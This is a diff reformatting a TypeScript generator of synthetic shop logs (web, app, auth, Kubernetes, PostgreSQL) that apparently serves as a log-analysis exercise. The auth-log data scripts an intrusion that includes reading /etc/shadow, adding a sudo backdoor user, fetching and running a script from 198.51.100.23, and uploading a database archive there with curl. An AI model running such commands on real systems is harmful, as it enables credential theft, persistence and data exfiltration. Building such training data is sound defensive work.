@@ -152,7 +152,18 @@ const AGENTS = [
 ] as const; // prettier-ignore
 
 const CATEGORIES = ['audio', 'cameras', 'garden', 'kitchen', 'outdoor', 'toys', 'books', 'lighting'];
-const SEARCHES = ['headphones', 'usb-c+cable', 'tent', 'coffee+grinder', 'desk+lamp', 'running+shoes', 'lego', 'tripod', 'raincoat', 'ssd'];
+const SEARCHES = [
+  'headphones',
+  'usb-c+cable',
+  'tent',
+  'coffee+grinder',
+  'desk+lamp',
+  'running+shoes',
+  'lego',
+  'tripod',
+  'raincoat',
+  'ssd',
+];
 
 interface User {
   readonly name: string;
@@ -238,7 +249,18 @@ export function generateSample(seed = SEED): GeneratedSample {
     fields: Record<string, unknown>,
     version = versionOf(service, at),
   ): void => {
-    app.add(at, JSON.stringify({ timestamp: stamp(at), level, service, version, pod: pod(service, version), message, ...fields }));
+    app.add(
+      at,
+      JSON.stringify({
+        timestamp: stamp(at),
+        level,
+        service,
+        version,
+        pod: pod(service, version),
+        message,
+        ...fields,
+      }),
+    );
   };
 
   const users: User[] = [];
@@ -258,7 +280,15 @@ export function generateSample(seed = SEED): GeneratedSample {
   const access = (
     at: number,
     user: User,
-    request: { method: string; uri: string; status: number; bytes: number; ms: number; trace: string; referer?: string },
+    request: {
+      method: string;
+      uri: string;
+      status: number;
+      bytes: number;
+      ms: number;
+      trace: string;
+      referer?: string;
+    },
     signedIn: boolean,
   ): void => {
     const { method, uri, status, bytes, ms, trace, referer = '-' } = request;
@@ -329,15 +359,26 @@ export function generateSample(seed = SEED): GeneratedSample {
     if (status !== 200) return;
     if (what === 'product' && random.chance(0.62)) {
       const stock = random.int(0, 240);
-      log('inventory-service', at + 3, stock === 0 ? 'WARN' : 'INFO', stock === 0 ? 'product out of stock' : 'stock checked', {
-        trace_id: trace,
-        product_id: `P-${product}`,
-        warehouse: random.pick(['ams1', 'fra2', 'iad1']),
-        stock,
-        duration_ms: Number(random.logNormal(9, 0.6).toFixed(1)),
-      });
+      log(
+        'inventory-service',
+        at + 3,
+        stock === 0 ? 'WARN' : 'INFO',
+        stock === 0 ? 'product out of stock' : 'stock checked',
+        {
+          trace_id: trace,
+          product_id: `P-${product}`,
+          warehouse: random.pick(['ams1', 'fra2', 'iad1']),
+          stock,
+          duration_ms: Number(random.logNormal(9, 0.6).toFixed(1)),
+        },
+      );
     } else if (what === 'search' && random.chance(0.25)) {
-      query(at + 5, random.logNormal(60, 0.8), `SELECT id, title, price FROM products WHERE tsv @@ plainto_tsquery('${uri.slice(10).replace('+', ' ')}') LIMIT 40`, 'catalog');
+      query(
+        at + 5,
+        random.logNormal(60, 0.8),
+        `SELECT id, title, price FROM products WHERE tsv @@ plainto_tsquery('${uri.slice(10).replace('+', ' ')}') LIMIT 40`,
+        'catalog',
+      );
     }
   };
 
@@ -346,7 +387,20 @@ export function generateSample(seed = SEED): GeneratedSample {
     const trace = random.hex(16);
     const ok = random.chance(0.93);
     const ms = random.logNormal(140, 0.45);
-    access(at, user, { method: 'POST', uri: '/api/login', status: ok ? 200 : 401, bytes: ok ? 612 : 141, ms, trace, referer: `${shop}/login` }, ok);
+    access(
+      at,
+      user,
+      {
+        method: 'POST',
+        uri: '/api/login',
+        status: ok ? 200 : 401,
+        bytes: ok ? 612 : 141,
+        ms,
+        trace,
+        referer: `${shop}/login`,
+      },
+      ok,
+    );
     log('auth-service', at + 12, ok ? 'INFO' : 'WARN', ok ? 'login succeeded' : 'login failed', {
       trace_id: trace,
       user: user.name,
@@ -357,7 +411,13 @@ export function generateSample(seed = SEED): GeneratedSample {
       duration_ms: Number((ms * 0.8).toFixed(1)),
     }); // prettier-ignore
     if (ok && random.chance(0.5)) {
-      log('auth-service', at + ms + 20, 'INFO', 'token issued', { trace_id: trace, user: user.name, user_id: user.id, ttl_s: 3600, scopes: ['orders:read', 'cart:write'] });
+      log('auth-service', at + ms + 20, 'INFO', 'token issued', {
+        trace_id: trace,
+        user: user.name,
+        user_id: user.id,
+        ttl_s: 3600,
+        scopes: ['orders:read', 'cart:write'],
+      });
     }
   };
 
@@ -367,7 +427,10 @@ export function generateSample(seed = SEED): GeneratedSample {
     const trace = random.hex(16);
     const bad = severity(at);
     const version = versionOf('checkout-service', at);
-    const paymentVersion = version === STORY.badVersion || random.chance(rolledOut(at)) ? STORY.badVersion : versionOf('payment-gateway', at);
+    const paymentVersion =
+      version === STORY.badVersion || random.chance(rolledOut(at))
+        ? STORY.badVersion
+        : versionOf('payment-gateway', at);
     const slow = paymentVersion === STORY.badVersion ? bad : bad * 0.25;
     const amount = Number(random.logNormal(58, 0.7).toFixed(2));
     const currency = random.weighted([['EUR', 5], ['USD', 4], ['GBP', 2], ['JPY', 1]] as const); // prettier-ignore
@@ -379,7 +442,14 @@ export function generateSample(seed = SEED): GeneratedSample {
     const declined = !exhausted && !timedOut && random.chance(0.035);
     const common = { trace_id: trace, user_id: user.id };
 
-    log('checkout-service', at, 'INFO', 'checkout started', { ...common, cart_items: random.int(1, 7), amount, currency }, version);
+    log(
+      'checkout-service',
+      at,
+      'INFO',
+      'checkout started',
+      { ...common, cart_items: random.int(1, 7), amount, currency },
+      version,
+    );
     log('inventory-service', at + 14, 'INFO', 'stock reserved', {
       ...common,
       order_id: orderId,
@@ -418,20 +488,52 @@ export function generateSample(seed = SEED): GeneratedSample {
       query(started + 30, random.logNormal(3.2, 0.6), `INSERT INTO payment_attempts (order_id, provider, amount) VALUES ('${orderId}', '${provider}', ${amount})`, 'payments'); // prettier-ignore
     }
     const end = at + ms;
-    access(at, user, { method: 'POST', uri: '/api/checkout', status, bytes: status === 200 ? random.int(700, 1400) : random.int(90, 260), ms, trace, referer: `${shop}/cart` }, true);
+    access(
+      at,
+      user,
+      {
+        method: 'POST',
+        uri: '/api/checkout',
+        status,
+        bytes: status === 200 ? random.int(700, 1400) : random.int(90, 260),
+        ms,
+        trace,
+        referer: `${shop}/cart`,
+      },
+      true,
+    );
     if (status >= 500) {
       log('checkout-service', end, 'ERROR', 'checkout failed', { ...common, order_id: orderId, upstream: 'payment-gateway', upstream_status: status, error: { type: 'UpstreamError', code: status === 504 ? 'ERR_UPSTREAM_TIMEOUT' : 'ERR_UPSTREAM_FAILED' }, duration_ms: Number(ms.toFixed(1)) }, version); // prettier-ignore
       return;
     }
-    log('checkout-service', end, 'INFO', status === 402 ? 'checkout refused' : 'checkout completed', { ...common, order_id: orderId, amount, currency, duration_ms: Number(ms.toFixed(1)) }, version);
+    log(
+      'checkout-service',
+      end,
+      'INFO',
+      status === 402 ? 'checkout refused' : 'checkout completed',
+      { ...common, order_id: orderId, amount, currency, duration_ms: Number(ms.toFixed(1)) },
+      version,
+    );
     if (status !== 200) return;
-    log('order-service', end + 15, 'INFO', 'order created', { ...common, order_id: orderId, amount, currency, country: user.country, duration_ms: Number(random.logNormal(22, 0.5).toFixed(1)) });
+    log('order-service', end + 15, 'INFO', 'order created', {
+      ...common,
+      order_id: orderId,
+      amount,
+      currency,
+      country: user.country,
+      duration_ms: Number(random.logNormal(22, 0.5).toFixed(1)),
+    });
     if (random.chance(0.8)) {
       const failed = random.chance(0.012);
       log('notification-service', end + 400, failed ? 'WARN' : 'INFO', failed ? 'notification delayed' : 'notification sent', { ...common, order_id: orderId, channel: random.weighted([['email', 7], ['push', 3], ['sms', 1]] as const), template: 'order_confirmation', attempt: failed ? 2 : 1 }); // prettier-ignore
     }
     if (random.chance(0.7)) {
-      log('order-service', end + random.logNormal(40 * MINUTE, 0.9), 'INFO', 'order shipped', { order_id: orderId, user_id: user.id, carrier: random.pick(['dhl', 'ups', 'postnord']), warehouse: random.pick(['ams1', 'fra2', 'iad1']) });
+      log('order-service', end + random.logNormal(40 * MINUTE, 0.9), 'INFO', 'order shipped', {
+        order_id: orderId,
+        user_id: user.id,
+        carrier: random.pick(['dhl', 'ups', 'postnord']),
+        warehouse: random.pick(['ams1', 'fra2', 'iad1']),
+      });
     }
   };
 
@@ -443,7 +545,20 @@ export function generateSample(seed = SEED): GeneratedSample {
     const completion = random.int(20, 700);
     const ms = random.logNormal(model === 'large-v2' ? 2300 : 820, 0.5);
     const limited = random.chance(0.011);
-    access(at, user, { method: 'POST', uri: '/api/assistant', status: limited ? 429 : 200, bytes: limited ? 118 : completion * 5, ms: limited ? 9 : ms, trace, referer: `${shop}/help` }, true);
+    access(
+      at,
+      user,
+      {
+        method: 'POST',
+        uri: '/api/assistant',
+        status: limited ? 429 : 200,
+        bytes: limited ? 118 : completion * 5,
+        ms: limited ? 9 : ms,
+        trace,
+        referer: `${shop}/help`,
+      },
+      true,
+    );
     log('llm-router', at + (limited ? 8 : ms), limited ? 'WARN' : 'INFO', limited ? 'rate limit reached' : 'completion routed', {
       trace_id: trace,
       user_id: user.id,
@@ -475,23 +590,59 @@ export function generateSample(seed = SEED): GeneratedSample {
     secure.add(at, `${stamp(at)} ${host} ${process}[${pid}]: ${text}`);
   };
   const sudo = (at: number, host: string, user: string, command: string): void => {
-    secure.add(at, `${stamp(at)} ${host} sudo: ${user.padStart(8)} : TTY=pts/${random.int(0, 4)} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`);
-    secure.add(at + 4, `${stamp(at + 4)} ${host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=${1000 + user.length})`);
+    secure.add(
+      at,
+      `${stamp(at)} ${host} sudo: ${user.padStart(8)} : TTY=pts/${random.int(0, 4)} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
+    );
+    secure.add(
+      at + 4,
+      `${stamp(at + 4)} ${host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=${1000 + user.length})`,
+    );
   };
   for (let at = -SPAN; at < 0; at += random.logNormal(4 * MINUTE, 0.9)) {
     const host = random.pick(hosts);
     const pid = random.int(700, 64_000);
     const kind = random.weighted([['session', 5], ['scan', 4], ['cron', 3]] as const); // prettier-ignore
     if (kind === 'cron') {
-      secure.add(at, `${stamp(at)} ${host} CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`);
-      secure.add(at + 900, `${stamp(at + 900)} ${host} CRON[${pid}]: pam_unix(cron:session): session closed for user root`);
+      secure.add(
+        at,
+        `${stamp(at)} ${host} CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
+      );
+      secure.add(
+        at + 900,
+        `${stamp(at + 900)} ${host} CRON[${pid}]: pam_unix(cron:session): session closed for user root`,
+      );
     } else if (kind === 'session') {
       const user = random.pick(admins);
       const from = `10.20.${random.int(0, 3)}.${random.int(10, 90)}`;
       const stay = random.logNormal(9 * MINUTE, 0.9);
-      ssh(at, host, `Accepted publickey for ${user} from ${from} port ${random.int(32_768, 60_999)} ssh2: ED25519 SHA256:${random.hex(20)}`, 'sshd', pid);
-      ssh(at + 20, host, `pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + user.length}) by (uid=0)`, 'sshd', pid);
-      if (random.chance(0.45)) sudo(at + stay * 0.3, host, user, random.pick(['/usr/bin/systemctl restart nginx', '/usr/bin/journalctl -u kubelet -n 200', '/usr/bin/apt-get update', '/usr/bin/tail -n 100 /var/log/syslog', '/usr/bin/docker ps']));
+      ssh(
+        at,
+        host,
+        `Accepted publickey for ${user} from ${from} port ${random.int(32_768, 60_999)} ssh2: ED25519 SHA256:${random.hex(20)}`,
+        'sshd',
+        pid,
+      );
+      ssh(
+        at + 20,
+        host,
+        `pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + user.length}) by (uid=0)`,
+        'sshd',
+        pid,
+      );
+      if (random.chance(0.45))
+        sudo(
+          at + stay * 0.3,
+          host,
+          user,
+          random.pick([
+            '/usr/bin/systemctl restart nginx',
+            '/usr/bin/journalctl -u kubelet -n 200',
+            '/usr/bin/apt-get update',
+            '/usr/bin/tail -n 100 /var/log/syslog',
+            '/usr/bin/docker ps',
+          ]),
+        );
       ssh(at + stay, host, `pam_unix(sshd:session): session closed for user ${user}`, 'sshd', pid);
     } else {
       // The background noise of every machine on the internet.
@@ -502,25 +653,67 @@ export function generateSample(seed = SEED): GeneratedSample {
         const port = random.int(32_768, 60_999);
         const known = user === 'root';
         if (!known) ssh(at + i * 2100, 'bastion-01', `Invalid user ${user} from ${from} port ${port}`, 'sshd', pid + i);
-        ssh(at + i * 2100 + 900, 'bastion-01', `Failed password for ${known ? '' : 'invalid user '}${user} from ${from} port ${port} ssh2`, 'sshd', pid + i);
+        ssh(
+          at + i * 2100 + 900,
+          'bastion-01',
+          `Failed password for ${known ? '' : 'invalid user '}${user} from ${from} port ${port} ssh2`,
+          'sshd',
+          pid + i,
+        );
       }
     }
   }
 
   // Kubernetes: events of the cluster, and what containers of the platform itself say.
-  const kubeEvent = (at: number, type: string, reason: string, kind: string, name: string, message: string, count = 1): void => {
+  const kubeEvent = (
+    at: number,
+    type: string,
+    reason: string,
+    kind: string,
+    name: string,
+    message: string,
+    count = 1,
+  ): void => {
     kube.add(at, JSON.stringify({ timestamp: stamp(at), kind: 'Event', type, reason, namespace: 'shop', involvedObject: { kind, name }, message, count, source: { component: kind === 'Pod' ? 'kubelet' : 'deployment-controller', host: random.pick(['node-01', 'node-02', 'node-03']) } }).replace('"source":', '"reporter":')); // prettier-ignore
   };
   const services = Object.keys(REPLICAS);
   const rollout = (at: number, service: string, from: string, to: string): void => {
     const replicas = REPLICAS[service] ?? 2;
-    kubeEvent(at, 'Normal', 'ScalingReplicaSet', 'Deployment', service, `Scaled up replica set ${service}-${random.hex(9)} to ${replicas} (image ${service}:${to}, was ${from})`);
+    kubeEvent(
+      at,
+      'Normal',
+      'ScalingReplicaSet',
+      'Deployment',
+      service,
+      `Scaled up replica set ${service}-${random.hex(9)} to ${replicas} (image ${service}:${to}, was ${from})`,
+    );
     for (let i = 0; i < replicas; i++) {
       const name = pod(service, to);
       const when = at + 4000 + i * 70_000;
-      kubeEvent(when, 'Normal', 'Scheduled', 'Pod', name, `Successfully assigned shop/${name} to ${random.pick(['node-01', 'node-02', 'node-03'])}`);
-      kubeEvent(when + 1500, 'Normal', 'Pulling', 'Pod', name, `Pulling image "registry.example.com/shop/${service}:${to}"`);
-      kubeEvent(when + 9000, 'Normal', 'Pulled', 'Pod', name, `Successfully pulled image "registry.example.com/shop/${service}:${to}" in ${random.int(5, 9)}.${random.int(0, 9)}s`);
+      kubeEvent(
+        when,
+        'Normal',
+        'Scheduled',
+        'Pod',
+        name,
+        `Successfully assigned shop/${name} to ${random.pick(['node-01', 'node-02', 'node-03'])}`,
+      );
+      kubeEvent(
+        when + 1500,
+        'Normal',
+        'Pulling',
+        'Pod',
+        name,
+        `Pulling image "registry.example.com/shop/${service}:${to}"`,
+      );
+      kubeEvent(
+        when + 9000,
+        'Normal',
+        'Pulled',
+        'Pod',
+        name,
+        `Successfully pulled image "registry.example.com/shop/${service}:${to}" in ${random.int(5, 9)}.${random.int(0, 9)}s`,
+      );
       kubeEvent(when + 9800, 'Normal', 'Started', 'Pod', name, `Started container ${service}`);
     }
   };
@@ -537,17 +730,52 @@ export function generateSample(seed = SEED): GeneratedSample {
     const service = random.pick(services);
     const version = versionOf(service, at);
     kube.add(at, JSON.stringify({ timestamp: stamp(at), kind: 'Metrics', namespace: 'shop', pod: pod(service, version), container: service, node: random.pick(['node-01', 'node-02', 'node-03']), cpu_millicores: Math.round(random.logNormal(140 + 700 * (version === STORY.badVersion ? severity(at) : 0), 0.4)), memory_mib: Math.round(random.logNormal(260 + (version === STORY.badVersion ? 240 * severity(at) : 0), 0.12)), restarts: version === STORY.badVersion ? Math.floor((at - STORY.deploy) / (28 * MINUTE)) : 0 })); // prettier-ignore
-    if (random.chance(0.012)) kubeEvent(at, 'Warning', 'Unhealthy', 'Pod', pod(service, version), 'Readiness probe failed: Get "http://10.42.1.17:8080/ready": context deadline exceeded');
+    if (random.chance(0.012))
+      kubeEvent(
+        at,
+        'Warning',
+        'Unhealthy',
+        'Pod',
+        pod(service, version),
+        'Readiness probe failed: Get "http://10.42.1.17:8080/ready": context deadline exceeded',
+      );
   }
   for (let at = STORY.deploy + 11 * MINUTE; at < STORY.rollback; at += random.logNormal(55 * SECOND, 0.6)) {
     const service = random.chance(0.72) ? 'payment-gateway' : 'checkout-service';
     const name = pod(service, STORY.badVersion);
     const count = 1 + Math.floor((at - STORY.deploy) / (9 * MINUTE));
     const what = random.weighted([['Unhealthy', 5], ['BackOff', 3], ['Killing', 2], ['OOMKilling', 1]] as const); // prettier-ignore
-    if (what === 'Unhealthy') kubeEvent(at, 'Warning', what, 'Pod', name, 'Liveness probe failed: HTTP probe failed with statuscode: 503', count);
-    else if (what === 'BackOff') kubeEvent(at, 'Warning', what, 'Pod', name, `Back-off restarting failed container ${service} in pod ${name}`, count);
-    else if (what === 'Killing') kubeEvent(at, 'Normal', what, 'Pod', name, `Container ${service} failed liveness probe, will be restarted`);
-    else kubeEvent(at, 'Warning', what, 'Pod', name, `Memory cgroup out of memory: Killed process ${random.int(3000, 9000)} (node) in container ${service}`);
+    if (what === 'Unhealthy')
+      kubeEvent(
+        at,
+        'Warning',
+        what,
+        'Pod',
+        name,
+        'Liveness probe failed: HTTP probe failed with statuscode: 503',
+        count,
+      );
+    else if (what === 'BackOff')
+      kubeEvent(
+        at,
+        'Warning',
+        what,
+        'Pod',
+        name,
+        `Back-off restarting failed container ${service} in pod ${name}`,
+        count,
+      );
+    else if (what === 'Killing')
+      kubeEvent(at, 'Normal', what, 'Pod', name, `Container ${service} failed liveness probe, will be restarted`);
+    else
+      kubeEvent(
+        at,
+        'Warning',
+        what,
+        'Pod',
+        name,
+        `Memory cgroup out of memory: Killed process ${random.int(3000, 9000)} (node) in container ${service}`,
+      );
   }
 
   // Database upkeep.
@@ -562,12 +790,26 @@ export function generateSample(seed = SEED): GeneratedSample {
     postgres.add(at, `${stamp(at)} [${pid}] ${text}`);
   }
   for (let at = STORY.deploy + 4 * MINUTE; at < STORY.rollback + 5 * MINUTE; at += random.logNormal(16 * SECOND, 0.7)) {
-    if (random.chance(severity(at) * 0.75)) postgres.add(at, `${stamp(at)} [${random.int(2100, 2460)}] app@payments FATAL:  remaining connection slots are reserved for roles with the SUPERUSER attribute`);
-    if (random.chance(severity(at) * 0.35)) postgres.add(at + 5, `${stamp(at + 5)} [${random.int(2100, 2460)}] app@payments LOG:  process ${random.int(2100, 2460)} still waiting for ShareLock on transaction ${random.int(8_100_000, 8_199_999)} after 1000.${random.int(100, 999)} ms`);
+    if (random.chance(severity(at) * 0.75))
+      postgres.add(
+        at,
+        `${stamp(at)} [${random.int(2100, 2460)}] app@payments FATAL:  remaining connection slots are reserved for roles with the SUPERUSER attribute`,
+      );
+    if (random.chance(severity(at) * 0.35))
+      postgres.add(
+        at + 5,
+        `${stamp(at + 5)} [${random.int(2100, 2460)}] app@payments LOG:  process ${random.int(2100, 2460)} still waiting for ShareLock on transaction ${random.int(8_100_000, 8_199_999)} after 1000.${random.int(100, 999)} ms`,
+      );
   }
 
   // Credential stuffing: many names, few tries each, one network, one tool.
-  const attacker = (name: string): User => ({ name, id: 0, ip: `${STORY.attackerNetwork}${random.int(64, 95)}`, country: 'ZZ', agent: 'python-requests/2.32.3' });
+  const attacker = (name: string): User => ({
+    name,
+    id: 0,
+    ip: `${STORY.attackerNetwork}${random.int(64, 95)}`,
+    country: 'ZZ',
+    agent: 'python-requests/2.32.3',
+  });
   const successes = new Map<number, string>(STORY.compromised.map((name, i) => [700 + i * 830, name]));
   const attempts = 3600;
   for (let i = 0; i < attempts; i++) {
@@ -577,7 +819,19 @@ export function generateSample(seed = SEED): GeneratedSample {
     const from = attacker(name);
     const trace = random.hex(16);
     const ok = won !== undefined;
-    access(at, from, { method: 'POST', uri: '/api/login', status: ok ? 200 : random.chance(0.06) ? 429 : 401, bytes: ok ? 612 : 141, ms: random.logNormal(120, 0.3), trace }, false);
+    access(
+      at,
+      from,
+      {
+        method: 'POST',
+        uri: '/api/login',
+        status: ok ? 200 : random.chance(0.06) ? 429 : 401,
+        bytes: ok ? 612 : 141,
+        ms: random.logNormal(120, 0.3),
+        trace,
+      },
+      false,
+    );
     log('auth-service', at + 10, ok ? 'INFO' : 'WARN', ok ? 'login succeeded' : 'login failed', { trace_id: trace, user: name, client_ip: from.ip, country: 'ZZ', asn: STORY.attackerAsn, ...(ok ? { method: 'password', new_device: true } : { reason: random.chance(0.75) ? 'unknown_user' : 'bad_password' }), duration_ms: Number(random.logNormal(95, 0.2).toFixed(1)) }); // prettier-ignore
   }
 
@@ -586,36 +840,110 @@ export function generateSample(seed = SEED): GeneratedSample {
   for (const name of STORY.compromised.slice(1)) {
     const from = { ...attacker(name), name };
     const start = STORY.attackEnd + random.int(3, 16) * MINUTE;
-    for (const [i, uri] of ['/api/account', '/api/account/export?format=json', '/api/orders?limit=500', '/api/payment-methods'].entries()) {
-      access(start + i * 7000, from, { method: 'GET', uri, status: 200, bytes: uri.includes('export') ? random.int(180_000, 420_000) : random.int(2000, 9000), ms: random.logNormal(180, 0.4), trace: random.hex(16) }, true);
+    for (const [i, uri] of [
+      '/api/account',
+      '/api/account/export?format=json',
+      '/api/orders?limit=500',
+      '/api/payment-methods',
+    ].entries()) {
+      access(
+        start + i * 7000,
+        from,
+        {
+          method: 'GET',
+          uri,
+          status: 200,
+          bytes: uri.includes('export') ? random.int(180_000, 420_000) : random.int(2000, 9000),
+          ms: random.logNormal(180, 0.4),
+          trace: random.hex(16),
+        },
+        true,
+      );
     }
   }
   const t = STORY.intrusion;
   const sshPid = 48_213;
-  for (let i = 0; i < 3; i++) ssh(t - 40_000 + i * 9000, 'bastion-01', `Failed password for d.okafor from ${intruder.ip} port ${50_100 + i} ssh2`, 'sshd', sshPid - 3 + i);
+  for (let i = 0; i < 3; i++)
+    ssh(
+      t - 40_000 + i * 9000,
+      'bastion-01',
+      `Failed password for d.okafor from ${intruder.ip} port ${50_100 + i} ssh2`,
+      'sshd',
+      sshPid - 3 + i,
+    );
   ssh(t, 'bastion-01', `Accepted password for d.okafor from ${intruder.ip} port 50118 ssh2`, 'sshd', sshPid);
-  ssh(t + 30, 'bastion-01', 'pam_unix(sshd:session): session opened for user d.okafor(uid=1008) by (uid=0)', 'sshd', sshPid);
+  ssh(
+    t + 30,
+    'bastion-01',
+    'pam_unix(sshd:session): session opened for user d.okafor(uid=1008) by (uid=0)',
+    'sshd',
+    sshPid,
+  );
   sudo(t + 65_000, 'bastion-01', 'd.okafor', '/usr/bin/cat /etc/shadow');
   sudo(t + 141_000, 'bastion-01', 'd.okafor', '/usr/sbin/useradd -m -s /bin/bash -G sudo svc-backup');
-  secure.add(t + 141_300, `${stamp(t + 141_300)} bastion-01 useradd[48377]: new user: name=svc-backup, UID=1019, GID=1019, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/2`);
+  secure.add(
+    t + 141_300,
+    `${stamp(t + 141_300)} bastion-01 useradd[48377]: new user: name=svc-backup, UID=1019, GID=1019, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/2`,
+  );
   sudo(t + 233_000, 'bastion-01', 'd.okafor', '/usr/bin/curl -fsS http://198.51.100.23/a.sh -o /tmp/.a.sh');
   sudo(t + 262_000, 'bastion-01', 'd.okafor', '/usr/bin/bash /tmp/.a.sh');
-  ssh(t + 410_000, 'db-02', 'Accepted publickey for svc-backup from 10.20.0.5 port 41822 ssh2: RSA SHA256:9f1c44e07ab21d6e03bb', 'sshd', 22_871);
+  ssh(
+    t + 410_000,
+    'db-02',
+    'Accepted publickey for svc-backup from 10.20.0.5 port 41822 ssh2: RSA SHA256:9f1c44e07ab21d6e03bb',
+    'sshd',
+    22_871,
+  );
   sudo(t + 452_000, 'db-02', 'svc-backup', '/usr/bin/tar czf /tmp/.cache/db.tgz /var/backups/postgresql');
   sudo(t + 655_000, 'db-02', 'svc-backup', '/usr/bin/curl -T /tmp/.cache/db.tgz http://198.51.100.23/up');
   ssh(t + 900_000, 'bastion-01', 'pam_unix(sshd:session): session closed for user d.okafor', 'sshd', sshPid);
 
-  const file = (name: string, stream: Stream, meta: Pick<SampleFile, 'index' | 'source' | 'sourcetype' | 'time'>): GeneratedSample['files'][number] => {
+  const file = (
+    name: string,
+    stream: Stream,
+    meta: Pick<SampleFile, 'index' | 'source' | 'sourcetype' | 'time'>,
+  ): GeneratedSample['files'][number] => {
     const text = stream.text();
-    return { file: name, ...meta, events: stream.lines.length, sha256: createHash('sha256').update(text).digest('hex'), text };
+    return {
+      file: name,
+      ...meta,
+      events: stream.lines.length,
+      sha256: createHash('sha256').update(text).digest('hex'),
+      text,
+    };
   };
   return {
     files: [
-      file('web.log.gz', web, { index: 'web', source: '/var/log/nginx/access.log', sourcetype: 'access_combined', time: 'web' }),
-      file('app.ndjson.gz', app, { index: 'app', source: '/var/log/containers/shop.json', sourcetype: 'app:json', time: 'iso' }),
-      file('secure.log.gz', secure, { index: 'os', source: '/var/log/auth.log', sourcetype: 'linux_secure', time: 'iso' }),
-      file('kube.ndjson.gz', kube, { index: 'k8s', source: 'kube-apiserver', sourcetype: 'kube:objects', time: 'iso' }),
-      file('postgres.log.gz', postgres, { index: 'db', source: '/var/log/postgresql/postgresql-16-main.log', sourcetype: 'postgresql', time: 'postgres' }),
+      file('web.log.gz', web, {
+        index: 'web',
+        source: '/var/log/nginx/access.log',
+        sourcetype: 'access_combined',
+        time: 'web',
+      }),
+      file('app.ndjson.gz', app, {
+        index: 'app',
+        source: '/var/log/containers/shop.json',
+        sourcetype: 'app:json',
+        time: 'iso',
+      }),
+      file('secure.log.gz', secure, {
+        index: 'os',
+        source: '/var/log/auth.log',
+        sourcetype: 'linux_secure',
+        time: 'iso',
+      }),
+      file('kube.ndjson.gz', kube, {
+        index: 'k8s',
+        source: 'kube-apiserver',
+        sourcetype: 'kube:objects',
+        time: 'iso',
+      }),
+      file('postgres.log.gz', postgres, {
+        index: 'db',
+        source: '/var/log/postgresql/postgresql-16-main.log',
+        sourcetype: 'postgresql',
+        time: 'postgres',
+      }),
     ],
   };
 }
@@ -631,7 +959,10 @@ export function writeSample(folder: string, sample = generateSample()): void {
     writeFileSync(join(folder, file), packed);
   }
   const files = sample.files.map(({ text: _, ...meta }) => meta);
-  writeFileSync(join(folder, 'manifest.json'), `${JSON.stringify({ version: 1, seed: SEED, spanMs: SPAN, files }, null, 2)}\n`);
+  writeFileSync(
+    join(folder, 'manifest.json'),
+    `${JSON.stringify({ version: 1, seed: SEED, spanMs: SPAN, files }, null, 2)}\n`,
+  );
   const events = files.reduce((sum, { events: n }) => sum + n, 0);
   console.log(`${events.toLocaleString('en')} events, ${(bytes / 1e6).toFixed(2)} MB packed`);
   for (const { file, events: n } of files) console.log(`  ${file.padEnd(20)} ${n.toLocaleString('en')}`);
